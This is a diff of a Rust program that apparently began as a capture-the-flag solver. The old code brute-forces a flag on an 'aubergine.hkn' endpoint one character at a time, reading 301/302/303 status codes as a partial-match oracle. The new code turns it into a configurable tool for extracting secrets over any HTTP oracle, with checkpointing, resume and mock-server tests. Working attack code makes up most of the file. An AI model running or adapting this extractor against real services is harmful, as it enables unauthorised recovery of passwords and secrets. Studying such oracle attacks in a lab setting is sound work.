@@ -1,56 +1,167 @@
-use itertools::{FoldWhile, Itertools};
-use reqwest::StatusCode;
-use std::fmt::{Display, Formatter};
+use std::io::{IsTerminal, Write};
+use std::path::{Path, PathBuf};
+use std::time::Instant;
 
-const MIN_INNER_SYMBOLS: &[char] = &['4', 'w', 'x', 'v', 'b', 'T', 'Y', 'H', 'J', 'K', 'N', '-'];
-const EXTRA: &str = "HKN";
+use clap::Parser;
 
-struct Flag<'a>(&'a str);
-impl Display for Flag<'_> {
-    fn fmt(&self, f: &mut Formatter<'_>) -> std::fmt::Result {
-        write!(f, "{}{{{}}}", EXTRA, self.0)
-    }
+mod checkpoint;
+mod config;
+mod oracle;
+mod solver;
+use config::Config;
+use oracle::HttpOracle;
+use solver::{solve, Step};
+
+/// Finds a secret through an oracle that tells whether a guess is the secret, the start of it or
+/// wrong, a symbol at a time.
+#[derive(Debug, Parser)]
+struct Args {
+    /// The TOML file describing the oracle.
+    #[arg(default_value = "hkn.toml")]
+    config: PathBuf,
+    /// Where the confirmed prefix is kept between runs, by default next to the config.
+    #[arg(long)]
+    checkpoint: Option<PathBuf>,
+    /// Start over instead of going on from the checkpoint.
+    #[arg(long)]
+    fresh: bool,
 }
 
-/// POST target: `https://aubergine.hkn/cupon`
-/// payload: `cupon=<data>`
-/// HTTP-status responses:
-/// - 303 (partial)
-/// - 301 (incorrect)
-/// - 302 (complete)
 fn main() {
-    let req = reqwest::blocking::Client::new().post("https://aubergine.hkn/cupon");
-
-    let complete = MIN_INNER_SYMBOLS
-        .iter()
-        .cycle()
-        .fold_while(String::new(), |mut partial, &c| {
-            partial.push(c);
-            match loop {
-                if let Ok(response) = req
-                    .try_clone()
-                    .unwrap()
-                    .header("cupon", Flag(&partial).to_string())
-                    .send()
-                {
-                    break response;
-                }
+    let args = Args::parse();
+    let config = Config::load(&args.config).unwrap_or_else(|e| exit(&e));
+    let checkpoint = args
+        .checkpoint
+        .unwrap_or_else(|| args.config.with_extension("checkpoint"));
+    let started = Instant::now();
+    let mut oracle = HttpOracle::new(&config);
+    let found = run(&config, &mut oracle, &checkpoint, args.fresh);
+    eprintln!(
+        "{} requests in {:.1}s",
+        oracle.requests,
+        started.elapsed().as_secs_f64()
+    );
+    match found {
+        Ok(secret) => println!("Password: {}", config.fill(&secret)),
+        Err(e) => exit(&e),
+    }
+}
+
+fn exit(message: &str) -> ! {
+    eprintln!("{}", message);
+    std::process::exit(1)
+}
+
+/// Solves from the checkpoint, keeping it up to date and removing it once the secret is found.
+fn run(
+    config: &Config,
+    oracle: &mut impl oracle::Oracle,
+    checkpoint: &Path,
+    fresh: bool,
+) -> Result<String, String> {
+    let symbols = config.symbols();
+    let prefix = match fresh {
+        true => None,
+        false => checkpoint::load(checkpoint)
+            .map_err(|e| format!("Could not read {}: {}", checkpoint.display(), e))?,
+    };
+    let prefix = match prefix {
+        Some(prefix) if prefix.chars().all(|c| symbols.contains(&c)) => {
+            eprintln!("Going on from {}", config.fill(&prefix));
+            prefix
+        }
+        Some(prefix) => {
+            return Err(format!(
+                "{} holds '{}', which is not made of the alphabet; use --fresh to start over",
+                checkpoint.display(),
+                prefix
+            ))
+        }
+        None => String::new(),
+    };
+
+    let terminal = std::io::stderr().is_terminal();
+    let mut stderr = std::io::stderr();
+    let found = solve(
+        oracle,
+        &symbols,
+        prefix,
+        config.max_length,
+        |step| match step {
+            Step::Trying(guess) if terminal => {
+                let _ = write!(stderr, "\r\x1B[KTrying {}", config.fill(guess));
+                let _ = stderr.flush();
             }
-            .status()
-            {
-                // 301 (incorrect)
-                StatusCode::MOVED_PERMANENTLY => {
-                    let _ = partial.pop().unwrap(); // undo
-                    FoldWhile::Continue(partial)
+            Step::Trying(_) => {}
+            Step::Confirmed(prefix) => {
+                if terminal {
+                    let _ = write!(stderr, "\r\x1B[K");
+                }
+                let _ = writeln!(stderr, "Confirmed {}", config.fill(prefix));
+                if let Err(e) = checkpoint::save(checkpoint, prefix) {
+                    let _ = writeln!(stderr, "Could not save {}: {}", checkpoint.display(), e);
                 }
-                // 302 (complete)
-                StatusCode::FOUND => FoldWhile::Done(partial),
-                // 303 (next partial)
-                StatusCode::SEE_OTHER => FoldWhile::Continue(partial),
-                _ => unimplemented!("Unexpected status code"),
             }
-        })
-        .into_inner();
+        },
+    );
+    if terminal {
+        eprint!("\r\x1B[K");
+    }
+    let secret = found.map_err(|e| e.to_string())?;
+    if let Err(e) = checkpoint::clear(checkpoint) {
+        eprintln!("Could not remove {}: {}", checkpoint.display(), e);
+    }
+    Ok(secret)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::run;
+    use crate::checkpoint;
+    use crate::oracle::tests::{mock_config, serve, SECRET};
+    use crate::oracle::HttpOracle;
+
+    #[test]
+    fn solves_the_mock_oracle_and_resumes() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("hkn.checkpoint");
+        let address = serve(0);
+        let config = mock_config(address, "header", "{ header = \"cupon\" }");
 
-    println!("Password: {}", Flag(&complete));
+        let mut oracle = HttpOracle::new(&config);
+        assert_eq!(
+            run(&config, &mut oracle, &path, false).as_deref(),
+            Ok(SECRET)
+        );
+        let from_scratch = oracle.requests;
+        assert_eq!(checkpoint::load(&path).unwrap(), None);
+
+        checkpoint::save(&path, "4wx").unwrap();
+        let mut oracle = HttpOracle::new(&config);
+        assert_eq!(
+            run(&config, &mut oracle, &path, false).as_deref(),
+            Ok(SECRET)
+        );
+        assert!(oracle.requests < from_scratch);
+
+        checkpoint::save(&path, "4wq").unwrap();
+        let mut oracle = HttpOracle::new(&config);
+        assert!(run(&config, &mut oracle, &path, false).is_err());
+        assert_eq!(oracle.requests, 0);
+        assert_eq!(
+            run(&config, &mut oracle, &path, true).as_deref(),
+            Ok(SECRET)
+        );
+    }
+
+    #[test]
+    fn stops_with_the_checkpoint_kept() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("hkn.checkpoint");
+        let mut config = mock_config(serve(0), "header", "{ header = \"cupon\" }");
+        config.max_length = Some(2);
+        let mut oracle = HttpOracle::new(&config);
+        assert!(run(&config, &mut oracle, &path, false).is_err());
+        assert_eq!(checkpoint::load(&path).unwrap().as_deref(), Some("4w"));
+    }
 }